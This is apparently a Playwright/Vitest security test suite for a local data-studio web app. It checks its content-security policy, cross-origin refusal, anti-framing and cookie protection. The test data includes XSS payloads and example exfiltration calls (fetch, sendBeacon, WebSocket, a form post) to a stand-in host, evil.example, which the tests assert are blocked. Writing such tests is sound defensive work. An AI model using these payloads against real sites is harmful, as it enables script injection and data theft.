import { readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';

import type { Page, WebSocketRoute } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openStudioBrowser, type StudioBrowser } from '../../helpers/studio-browser.ts';
import { repositoryRoot } from '../../helpers/studio-cli.ts';

type TrustedWindow = Readonly<{ trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }>;

const WAIT_MS = 60_000;
const THREE_HOURS_MS = 3 * 3600_000;

/** What real Chromium lets a bad page, or a page in the wrong hands, do to the studio. */
describe('a signed-in browser under attack', () => {
  let studio: StudioBrowser;
  let page: Page;
  let origin: string;
  let foreign: Server;
  let foreignPort: number;

  beforeAll(async () => {
    studio = await openStudioBrowser({ language: 'zh-CN' });
    ({ page } = studio);
    page.setDefaultTimeout(WAIT_MS);
    await page.getByRole('heading', { name: '导入数据' }).waitFor();
    ({ origin } = new URL(page.url()));
    foreign = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>foreign</title>');
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    foreignPort = (foreign.address() as AddressInfo).port;
  });

  afterAll(async () => {
    foreign.close();
    await studio.close();
  });

  it('every file of the studio comes under the policy', async () => {
    const dist = path.join(repositoryRoot, 'dist/renderer');
    const files = readdirSync(dist, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && !entry.name.startsWith('.'))
      .map((entry) => path.relative(dist, path.join(entry.parentPath, entry.name)).replaceAll(path.sep, '/'));
    const served: string[] = [];
    for (const file of ['', ...files, 'nowhere', 'api/session']) {
      const answer = await page.request.get(`${origin}/${file}`);
      if (answer.ok()) served.push(file);
      const policy = answer.headers()['content-security-policy'] ?? '';
      expect(policy, file).toContain("default-src 'none'; script-src 'self';");
      expect(policy, file).toContain("require-trusted-types-for 'script'; trusted-types default");
      expect(answer.headers()['x-content-type-options'], file).toBe('nosniff');
    }
    // The bundler's own list of the build is no page.
    const pages = files.filter((file) => !file.startsWith('.vite/'));
    expect(served.filter((file) => file !== '').sort()).toEqual(pages.sort());
  });

  it('the policy holds against what got into the page itself', async () => {
    const injected = [
      '<script>window.hacked = "inline"</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<script src="data:text/javascript,window.hacked=1"></script>',
      '<img src="x" onerror="window.hacked = \'handler\'">',
      '<img src="https://evil.example/leak?rows">',
      '<iframe src="https://evil.example/"></iframe>',
      '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
      '<object data="https://evil.example/x.swf"></object>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<base href="https://evil.example/">',
      '<a id="script-link" href="javascript:window.hacked=\'link\'">x</a>',
      '<form id="leak" action="https://evil.example/" method="post"><input name="rows" value="x"></form>',
    ];
    const victim = await page.context().newPage();
    const asked: string[] = [];
    await victim.addInitScript(() => {
      const violated: string[] = [];
      (window as unknown as { violated: string[] }).violated = violated;
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        violated.push(`${effectiveDirective} ${blockedURI}`),
      );
    });
    await victim.route(/evil\.example/u, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    // The server's own headers, around a body that somebody changed.
    await victim.route(`${origin}/`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.text()).replace('<body>', `<body>${injected.join('')}`);
      await route.fulfill({ response: answer, body });
    });
    await victim.goto(`${origin}/`);
    // A page that was changed on its way may not open the socket; that the studio's own script ran is enough.
    await victim.locator('#root > *').first().waitFor({ state: 'attached' });
    await victim.evaluate(async () => {
      const quiet = (work: () => unknown): void => {
        try {
          void Promise.resolve(work()).catch(() => undefined);
        } catch {
          // Refused at once, and told to the listener.
        }
      };
      document.querySelector<HTMLAnchorElement>('#script-link')?.click();
      document.querySelector<HTMLFormElement>('#leak')?.submit();
      quiet(() => fetch('https://evil.example/leak', { method: 'POST', mode: 'no-cors', body: 'rows' }));
      quiet(() => new WebSocket('wss://evil.example/leak'));
      quiet(() => new EventSource('https://evil.example/leak'));
      quiet(() => navigator.sendBeacon('https://evil.example/leak', 'rows'));
      quiet(() => new Worker(URL.createObjectURL(new Blob(['1']))));
      quiet(() => (window as unknown as TrustedWindow).trustedTypes.createPolicy('foreign', {}));
      quiet(() => (document.createElement('div').innerHTML = '<b>x</b>'));
      quiet(() => document.createElement('script').setAttribute('src', 'x.js'));
      await new Promise<void>((resolve) => {
        // In a task of its own: the debugger that runs this function may evaluate strings.
        setTimeout(() => {
          quiet(() => (0, eval)('window.hacked = "eval"'));
          quiet(() => Reflect.construct(Function, ['window.hacked = "function"']));
          quiet(() => Reflect.apply(setTimeout, window, ['window.hacked = "timer"', 0]));
          setTimeout(resolve, 500);
        }, 0);
      });
    });
    const [violated, hacked] = await victim.evaluate(() => {
      const marks = window as unknown as { violated: string[]; hacked?: unknown };
      return [marks.violated, marks.hacked] as const;
    });
    expect(hacked).toBeUndefined();
    expect(asked).toEqual([]);
    const wanted = [
      'script-src-elem inline',
      'script-src-elem https://evil.example/x.js',
      'script-src-elem data',
      'script-src-attr inline',
      'img-src https://evil.example/leak?rows',
      'frame-src https://evil.example',
      'object-src https://evil.example',
      'style-src-elem https://evil.example/x.css',
      'base-uri https://evil.example',
      'form-action https://evil.example',
      'connect-src https://evil.example/leak',
      'connect-src wss://evil.example/leak',
      'trusted-types trusted-types-policy',
      'require-trusted-types-for trusted-types-sink',
    ];
    const missing = wanted.filter((one) => !violated.some((seen) => seen.startsWith(one)));
    expect(missing, violated.join('\n')).toEqual([]);
    await victim.close();
  });

  // The other program on this machine is the same site to a browser: it does send our cookie along.
  it.each(['127.0.0.1', 'localhost'])('a page of another program on %s gets nothing', async (name) => {
    const attacker = await page.context().newPage();
    await attacker.goto(`http://${name}:${String(foreignPort)}/`);
    const outcome = await attacker.evaluate(async (studioOrigin) => {
      const json = { 'content-type': 'application/json', 'x-legal-eagle': '1' };
      const fetched = async (target: string, init: RequestInit): Promise<string> => {
        try {
          const answer = await fetch(`${studioOrigin}${target}`, { credentials: 'include', ...init });
          return `${answer.type} ${String(answer.status)} ${(await answer.text()).slice(0, 40)}`;
        } catch {
          return 'refused';
        }
      };
      const socket = new WebSocket(`${studioOrigin.replace('http', 'ws')}/api/socket`);
      const opened = await new Promise<string>((resolve) => {
        socket.onopen = () => resolve('opened');
        socket.onerror = () => resolve('refused');
      });
      const loads = (element: HTMLElement): Promise<string> =>
        new Promise((resolve) => {
          element.onload = () => resolve('loaded');
          element.onerror = () => resolve('refused');
          document.body.append(element);
        });
      const picture = document.createElement('img');
      picture.src = `${studioOrigin}/icon.svg`;
      const script = document.createElement('script');
      script.src = `${studioOrigin}/index.html`;
      return {
        opened,
        picture: await loads(picture),
        script: await loads(script),
        simple: await fetched('/api/session', { mode: 'no-cors' }),
        read: await fetched('/api/session', {}),
        folder: await fetched('/api/folder', { method: 'POST', headers: json, body: '{}' }),
        upload: await fetched('/api/uploads/x.jsonl', { method: 'PUT', body: 'x' }),
      };
    }, origin);
    expect(outcome).toEqual({
      opened: 'refused',
      picture: 'refused',
      script: 'refused',
      simple: 'refused',
      read: 'refused',
      folder: 'refused',
      upload: 'refused',
    });
    await attacker.close();
  });

  it.each([
    ['multipart/form-data', '/api/uploads/x.jsonl'],
    ['application/x-www-form-urlencoded', '/api/folder'],
    ['text/plain', '/api/session'],
  ])('a form of another page (%s) to %s changes nothing', async (enctype, target) => {
    const attacker = await page.context().newPage();
    await attacker.goto(`http://127.0.0.1:${String(foreignPort)}/`);
    const answered = attacker.waitForResponse((answer) => answer.url() === `${origin}${target}`);
    await attacker.evaluate(
      ([type, action]) => {
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', enctype: type, action });
        const field = document.createElement('input');
        Object.assign(field, { name: '{"path":"/', value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
      },
      [enctype, `${origin}${target}`] as const,
    );
    const answer = await answered;
    expect(answer.status()).toBe(403);
    expect(await answer.json()).toMatchObject({ error: { code: 'server.origin_refused' } });
    await attacker.close();
  });

  it('cannot be framed, nor reached by the page that opened it', async () => {
    const attacker = await page.context().newPage();
    await attacker.goto(`http://127.0.0.1:${String(foreignPort)}/`);
    const popup = attacker.waitForEvent('popup');
    const reach = await attacker.evaluate(async (studioOrigin) => {
      const frame = document.createElement('iframe');
      frame.src = `${studioOrigin}/`;
      const framed = new Promise((resolve) => (frame.onload = resolve));
      document.body.append(frame);
      await framed;
      (window as unknown as { opened: Window | null }).opened = window.open(`${studioOrigin}/`);
      return frame.contentDocument === null;
    }, origin);
    expect(reach).toBe(true);
    const framed = attacker.frames().find((frame) => frame !== attacker.mainFrame());
    expect(await framed?.locator('nav').count()).toBe(0);
    const opened = await popup;
    await opened.getByRole('heading', { name: '导入数据' }).waitFor();
    expect(await opened.evaluate(() => window.opener as unknown)).toBeNull();
    expect(
      await attacker.evaluate(() => (window as unknown as { opened: Window | null }).opened?.closed),
    ).toBe(true);
    await opened.close();
    await attacker.close();
  });

  it('its session is out of reach for scripts', async () => {
    expect(await page.evaluate(() => document.cookie)).toBe('');
    const kept = await page.evaluate(() =>
      JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage)]),
    );
    const secrets = (await page.context().cookies(origin)).map(({ value }) => value);
    expect(secrets.length).toBe(1);
    for (const secret of secrets) expect(kept).not.toContain(secret);
  });

  // The lid closes: no packet, no close event, and hours later the clock jumps.
  it('a laptop that slept notices by itself, and asks for what it missed', async () => {
    const laptop = await page.context().newPage();
    laptop.setDefaultTimeout(WAIT_MS);
    const lines: { asleep: boolean; sent: string[]; socket: WebSocketRoute }[] = [];
    await laptop.routeWebSocket(/\/api\/socket$/u, (socket) => {
      const line = { asleep: false, sent: [] as string[], socket };
      const far = socket.connectToServer();
      socket.onMessage((message) => {
        line.sent.push(String(message));
        if (!line.asleep) far.send(message);
      });
      far.onMessage((message) => {
        if (!line.asleep) socket.send(message);
      });
      // A dead line does not even say that it is closed.
      socket.onClose(() => undefined);
      lines.push(line);
    });
    await laptop.clock.install();
    await laptop.goto(`${origin}/`);
    await laptop.getByRole('heading', { name: '导入数据' }).waitFor();
    await expect.poll(() => lines[0]?.sent.some((frame) => frame.includes('"runs"'))).toBe(true);
    if (lines[0] === undefined) throw new Error('the page has a line');
    lines[0].asleep = true;
    await laptop.clock.fastForward(THREE_HOURS_MS);
    await expect
      .poll(
        async () => {
          // Time goes on after the lid is open.
          await laptop.clock.runFor(1000);
          return lines.length;
        },
        { timeout: WAIT_MS, interval: 50 },
      )
      .toBeGreaterThan(1);
    const resumed = (): unknown =>
      lines
        .at(-1)
        ?.sent.map((frame) => JSON.parse(frame) as { k: string; topic?: string; since?: number })
        .find(({ k, topic }) => k === 'sub' && topic === 'runs')?.since;
    await expect.poll(resumed, { timeout: WAIT_MS }).toBeTypeOf('number');
    await laptop.close();
  });
});
